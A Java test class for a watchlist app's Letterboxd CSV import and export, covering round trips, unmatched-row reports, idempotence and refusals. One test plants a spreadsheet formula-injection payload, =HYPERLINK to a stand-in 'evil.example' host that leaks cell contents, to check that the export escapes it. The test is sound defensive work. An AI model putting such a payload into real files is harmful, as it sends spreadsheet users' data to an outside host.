package org.kinopanorama.watchlist;

import io.agroal.api.AgroalDataSource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import org.junit.jupiter.api.Test;
import org.kinopanorama.account.Visitor;
import org.kinopanorama.watchlist.CuratedFilms.FilmRef;

import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Letterboxd files out and in: the round trip, the report of unmatched rows, idempotence, refusals. */
@QuarkusTest
class LetterboxdImportTest {

    @Inject
    AgroalDataSource db;

    static Response upload(Visitor visitor, String fileName, String content, String target) {
        visitor.get("/watchlists/import");
        var request = visitor.request().multiPart("csrf", visitor.csrfToken())
                .multiPart("file", fileName, content.getBytes(StandardCharsets.UTF_8), "text/csv");
        if (target != null) {
            request = request.multiPart("target", target);
        }
        return request.post("/watchlists/import");
    }

    /** Uploads, reads the report, confirms; returns the list's id. */
    static long importFile(Visitor visitor, String fileName, String content) {
        Response uploaded = upload(visitor, fileName, content, null);
        assertThat(uploaded.statusCode()).as(uploaded.asString()).isEqualTo(303);
        String report = uploaded.header("Location");
        assertThat(visitor.get(report).statusCode()).isEqualTo(200);
        Response confirmed = visitor.post(report.replaceFirst("^https?://[^/]+", ""));
        assertThat(confirmed.statusCode()).isEqualTo(303);
        return Long.parseLong(confirmed.header("Location").replaceAll(".*/watchlists/(\\d+).*", "$1"));
    }

    @Test
    void aListExportedAndImportedIntoAFreshAccountHasTheSameFilmsInTheSameOrderWithTheirNotes() {
        List<FilmRef> films = CuratedFilms.ingest(db, 4).films();
        Visitor anna = Visitor.signedUp(Visitor.uniqueName("anna"));
        long list = Lists.create(anna, "Round, trip");
        for (int i = films.size() - 1; i >= 0; i--) {
            Lists.add(anna, list, films.get(i).id());
        }
        anna.post("/watchlists/" + list + "/films/" + films.get(2).id() + "/note", "note", "Watch with \"Lena\",\nat home");
        anna.post("/watchlists/" + list + "/films/" + films.get(0).id() + "/move", "position", "2");
        List<Long> order = Lists.order(Lists.page(anna, list));

        Response export = anna.get("/watchlists/" + list + "/export?format=list");
        assertThat(export.statusCode()).isEqualTo(200);
        assertThat(export.contentType()).startsWith("text/csv");
        assertThat(export.header("Content-Disposition")).contains("round-trip-list.csv");
        String csv = export.asString();
        assertThat(csv).startsWith("Letterboxd list export v7\n").contains("Position,Name,Year,URL,Description");

        Visitor boris = Visitor.signedUp(Visitor.uniqueName("boris"));
        long imported = importFile(boris, "round-trip-list.csv", csv);
        String page = Lists.page(boris, imported);
        assertThat(page).contains("<h1 id=\"list-title\">Round, trip</h1>");
        assertThat(Lists.order(page)).containsExactlyElementsOf(order);
        assertThat(page).contains("Watch with &quot;Lena&quot;,\nat home");

        // the watchlist format carries the films and their order (no notes: Letterboxd's format has none)
        String watchlistCsv = anna.get("/watchlists/" + list + "/export?format=watchlist").asString();
        assertThat(watchlistCsv).startsWith("Date,Name,Year,Letterboxd URI\n");
        Visitor clara = Visitor.signedUp(Visitor.uniqueName("clara"));
        long claras = importFile(clara, "watchlist.csv", watchlistCsv);
        assertThat(claras).isEqualTo(Lists.watchlist(clara));
        assertThat(Lists.order(Lists.page(clara, claras))).containsExactlyElementsOf(order);
    }

    @Test
    void notesAndNamesThatLookLikeFormulasLeaveAsTextAndComeBackUnchanged() {
        List<FilmRef> films = CuratedFilms.ingest(db, 2).films();
        Visitor olga = Visitor.signedUp(Visitor.uniqueName("olga"));
        long list = Lists.create(olga, "=1+1");
        Lists.add(olga, list, films.get(0).id());
        Lists.add(olga, list, films.get(1).id());
        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        olga.post("/watchlists/" + list + "/films/" + films.get(0).id() + "/note", "note", formula);
        olga.post("/watchlists/" + list + "/films/" + films.get(1).id() + "/note", "note", "-5 stars");

        String csv = olga.get("/watchlists/" + list + "/export?format=list").asString();
        assertThat(csv).contains("'=HYPERLINK(", "'-5 stars", "'=1+1").doesNotContain(",=", ",-5 stars");

        Visitor pavel = Visitor.signedUp(Visitor.uniqueName("pavel"));
        long imported = importFile(pavel, "formulas.csv", csv);
        String page = Lists.page(pavel, imported);
        assertThat(page).contains("<h1 id=\"list-title\">=1+1</h1>")
                .contains("=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)")
                .contains("-5 stars")
                .doesNotContain("&#39;=HYPERLINK", "&#39;-5 stars");
    }

    @Test
    void theReportNamesUnmatchedRowsAndNothingIsSavedBeforeConfirming() {
        List<FilmRef> films = CuratedFilms.ingest(db, 3).films();
        FilmRef a = films.get(0), b = films.get(1), c = films.get(2);
        String csv = "Date,Name,Year,Letterboxd URI\n"
                + "2024-01-01," + a.title() + "," + a.year() + ",https://boxd.it/a\n"
                + "2024-01-02," + b.title().toUpperCase() + "," + (b.year() + 1) + ",https://boxd.it/b\n"   // a year off: same film
                + "2024-01-03," + c.title() + "," + (c.year() + 3) + ",https://boxd.it/c\n"                 // three years off: another film
                + "2024-01-04,Nothing Like This Exists Zzqx,1961,https://boxd.it/d\n"
                + "2024-01-05,,1961,https://boxd.it/e\n";
        Visitor dina = Visitor.signedUp(Visitor.uniqueName("dina"));
        long watchlist = Lists.watchlist(dina);
        Response uploaded = upload(dina, "watchlist.csv", csv, null);
        assertThat(uploaded.statusCode()).isEqualTo(303);
        String report = dina.get(uploaded.header("Location")).asString();
        assertThat(report).contains("watchlist.csv: 4 rows, 2 matched to films of the catalogue, 2 not found.")
                .contains("Line 4: " + c.title() + " (" + (c.year() + 3) + ")")
                .contains("Line 5: Nothing Like This Exists Zzqx (1961)")
                .contains("Line 6: no film name")
                .contains("2 films will be added");
        assertThat(Lists.order(Lists.page(dina, watchlist))).isEmpty();

        dina.post(uploaded.header("Location").replaceFirst("^https?://[^/]+", ""));
        assertThat(Lists.order(Lists.page(dina, watchlist))).containsExactly(a.id(), b.id());
        // a report is for one confirmation only
        assertThat(dina.get(uploaded.header("Location")).statusCode()).isEqualTo(404);
    }

    @Test
    void importingTheSameFileTwiceAddsNothing() {
        List<FilmRef> films = CuratedFilms.ingest(db, 3).films();
        StringBuilder csv = new StringBuilder("Letterboxd list export v7\nDate,Name,Tags,URL,Description\n2024-01-01,Twice,,,\n\nPosition,Name,Year,URL,Description\n");
        for (int i = 0; i < films.size(); i++) {
            csv.append(i + 1).append(',').append(films.get(i).title()).append(',').append(films.get(i).year()).append(",,note ").append(i).append('\n');
        }
        Visitor emil = Visitor.signedUp(Visitor.uniqueName("emil"));
        long first = importFile(emil, "twice.csv", csv.toString());
        emil.post("/watchlists/" + first + "/films/" + films.get(0).id() + "/note", "note", "changed since");
        String before = Lists.page(emil, first);

        Response again = upload(emil, "twice.csv", csv.toString(), null);
        String report = emil.get(again.header("Location")).asString();
        assertThat(report).contains("Films go into your list “Twice”.").contains("0 films will be added");
        long second = Long.parseLong(emil.post(again.header("Location").replaceFirst("^https?://[^/]+", ""))
                .header("Location").replaceAll(".*/watchlists/(\\d+).*", "$1"));
        assertThat(second).isEqualTo(first);
        assertThat(Lists.page(emil, first)).isEqualTo(before);
        assertThat(emil.get("/watchlists").asString().split(">Twice</a>", -1)).hasSize(2);
    }

    @Test
    void aFileThatIsNoLetterboxdExportIsRefusedWithItsNameAndLine() {
        Visitor fedor = Visitor.signedUp(Visitor.uniqueName("fedor"));
        Response refused = upload(fedor, "films.csv", "Title;Jahr\nSolaris;1972\n", null);
        assertThat(refused.statusCode()).isEqualTo(422);
        assertThat(refused.asString()).contains("films.csv: line 1: no &#39;Name&#39; column");

        fedor.get("/watchlists/import");
        Response latin1 = fedor.request().multiPart("csrf", fedor.csrfToken())
                .multiPart("file", "cp1251.csv", "Date,Name,Year\n2024-01-01,Сталкер,1979\n".getBytes(java.nio.charset.Charset.forName("windows-1251")), "text/csv")
                .post("/watchlists/import");
        assertThat(latin1.statusCode()).isEqualTo(415);
        assertThat(latin1.asString()).contains("cp1251.csv: not UTF-8 text");

        // someone else's report is not there for anyone else
        Visitor owner = Visitor.signedUp(Visitor.uniqueName("owner"));
        Response uploaded = upload(owner, "watchlist.csv", "Date,Name,Year,Letterboxd URI\n", null);
        String report = uploaded.header("Location").replaceFirst("^https?://[^/]+", "");
        assertThat(fedor.get(report).statusCode()).isEqualTo(404);
        fedor.get("/watchlists");
        assertThat(fedor.post(report).statusCode()).isEqualTo(404);
    }
}
